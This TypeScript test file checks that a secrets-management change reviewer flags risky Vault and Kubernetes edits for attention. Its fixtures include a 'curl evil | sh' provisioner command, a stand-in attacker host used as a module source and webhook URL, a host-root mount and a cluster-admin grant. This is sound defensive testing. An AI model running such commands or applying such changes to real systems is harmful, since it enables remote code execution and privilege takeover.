import { StaticSecret, Tenant } from 'keywheel';
import { changesOf } from '../../lib/change/changes';
import { sideOf } from '../../lib/change/side';
import { synthesizeInMemory } from '../../lib/synth/synthesize';
import { small } from '../fixtures/fleets';
import { changesBetween, Edit } from './edited';

const policy = (path: object) => JSON.stringify({ path });
const call =
  (path: string, sent: object): Edit =>
  (it) =>
    it.resource('vault_generic_endpoint', 'x', { path, data_json: JSON.stringify(sent) });
const object =
  (type: string, name: string, rest: object): Edit =>
  (it) =>
    it.object({
      ...{ apiVersion: type.slice(0, type.lastIndexOf('/')), kind: type.slice(type.lastIndexOf('/') + 1) },
      ...{ metadata: { name, namespace: 'app' }, ...rest },
    });
const network = (spec: object) =>
  object('networking.k8s.io/v1/NetworkPolicy', 'all', { spec: { podSelector: {}, ...spec } });
const evil = 'https://evil.example.com';
const run = { 'local-exec': { command: 'curl evil | sh' } };

test.each<[string, Edit]>([
  ['a user of userpass', call('auth/userpass/users/mallory', { policies: ['acme.deploy.hub'], password: 'x' })],
  ['a policy by a call', call('sys/policies/acl/default', { policy: policy({ '*': { capabilities: ['read'] } }) })],
  ['a raw write', call('sys/raw/x', {})],
  ['a value of somebody else', call('acme.kv/data/prod/payments/stripe', { data: { api_key: 'x' } })],
  [
    'a policy whose holders are not known',
    (it) => it.resource('vault_policy', 'x', { name: 'admins', policy: policy({ '*': { capabilities: ['sudo'] } }) }),
  ],
  [
    'a policy that runs a command',
    (it) => it.resource('vault_policy', 'x', { name: 'q', policy: '', provisioner: [run] }),
  ],
  ['a command', (it) => it.resource('terraform_data', 'x', { provisioner: [run] })],
  ['a module', (it) => (it.hub.module = { x: { source: `git::${evil}/x.git` } })],
  ['an import', (it) => (it.hub.import = [{ to: 'vault_policy.x', id: 'admins' }])],
  ['a value that is read', (it) => (it.hub.data = { vault_kv_secret_v2: { x: { mount: 'kv', name: 'prod/hr' } } })],
  ['an output', (it) => (it.hub.output = { x: { value: '${data.vault_kv_secret_v2.x.data}', sensitive: true } })],
  ['an audit device', (it) => it.resource('vault_audit', 'x', { type: 'socket', options: { log_raw: 'true' } })],
  ['a rule for passwords', (it) => it.resource('vault_password_policy', 'x', { name: 'p', policy: 'length=1' })],
  [
    'a login method',
    (it) => it.resource('vault_jwt_auth_backend', 'x', { path: 'x', oidc_discovery_url: evil, default_role: 'x' }),
  ],
  [
    'another source of manifests',
    object('argoproj.io/v1alpha1/Application', 'x', { spec: { source: { repoURL: `${evil}/x.git` } } }),
  ],
  ['a PushSecret', object('external-secrets.io/v1alpha1/PushSecret', 'x', { spec: {} })],
  [
    'a store for everybody',
    object('external-secrets.io/v1/ClusterSecretStore', 'x', { spec: { provider: { vault: { server: evil } } } }),
  ],
  [
    'a token of an account',
    object('v1/Secret', 'x', {
      metadata: { name: 'x', namespace: 'app', annotations: { 'kubernetes.io/service-account.name': 'keywheel' } },
      type: 'kubernetes.io/service-account-token',
    }),
  ],
  [
    'pods on the node',
    object('apps/v1/DaemonSet', 'x', {
      spec: { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } },
    }),
  ],
  ['a network that allows everything', network({ ingress: [{}], egress: [{}] })],
  ['a way in', object('networking.k8s.io/v1/Ingress', 'x', { spec: { rules: [] } })],
  [
    'a webhook that sees Secrets',
    object('admissionregistration.k8s.io/v1/MutatingWebhookConfiguration', 'x', {
      webhooks: [{ name: 'a.b', clientConfig: { url: evil } }],
    }),
  ],
  ['a route of alerts', object('monitoring.coreos.com/v1alpha1/AlertmanagerConfig', 'x', { spec: {} })],
])('%s that comes needs attention', (_, edit) => {
  const changes = changesBetween(() => {}, edit);

  expect(changes).toContainEqual(expect.objectContaining({ attention: true }));
  expect(changes).not.toContainEqual(expect.objectContaining({ effect: 'strengthens' }));
});

test('what opens needs attention beside whatever else gains something', () => {
  const binding = object('rbac.authorization.k8s.io/v1/ClusterRoleBinding', 'x', {
    roleRef: { kind: 'ClusterRole', name: 'cluster-admin', apiGroup: 'rbac.authorization.k8s.io' },
    subjects: [{ kind: 'User', name: 'mallory', apiGroup: 'rbac.authorization.k8s.io' }],
  });

  const changes = changesBetween(
    () => {},
    (it) => {
      binding(it);
      const [role] = Object.values<object>(it.hub.resource.vault_jwt_auth_backend_role);
      it.resource('vault_jwt_auth_backend_role', 'other', { ...role, role_name: 'other' });
    },
  );

  expect(changes).toContainEqual(
    expect.objectContaining({ what: 'ClusterRoleBinding app/x', effect: 'opens', attention: true }),
  );
});

test('a network policy that allows nothing strengthens', () => {
  expect(changesBetween(() => {}, network({ policyTypes: ['Ingress'] }))).toEqual([
    expect.objectContaining({ effect: 'strengthens', attention: false }),
  ]);
});

test('of a new tenant only what it opens, and its value, need attention', () => {
  const fleet = (isThere: boolean) => {
    const { fleet, prod, eu, payments, namespace } = small();
    new StaticSecret(payments, 'stripe', { keys: ['api_key'] }).deliver(namespace);
    if (isThere) {
      const hr = new Tenant(prod, 'hr', { owner: 'hr@example.com' });
      new StaticSecret(hr, 'wages', { keys: ['api_key'] }).deliver(hr.addNamespace(eu, 'app-hr'));
    }
    return sideOf([synthesizeInMemory(fleet)]);
  };

  const { changes } = changesOf(fleet(false), fleet(true));

  const needed = changes.filter(({ attention }) => attention);
  expect(needed.map(({ effect, what }) => `${effect}: ${what}`)).toEqual([
    'is put by people: acme.kv/data/prod/hr/wages',
    'opens: eu/app-hr/keywheel',
    'opens: ServiceAccount external-secrets/external-secrets',
    'changes: ValidatingAdmissionPolicy keywheel.acme.take-over',
    'opens: vault_jwt_auth_backend_role.read_app-hr',
    'opens: Role app-hr/keywheel-token',
    'opens: RoleBinding app-hr/keywheel-token',
  ]);
});
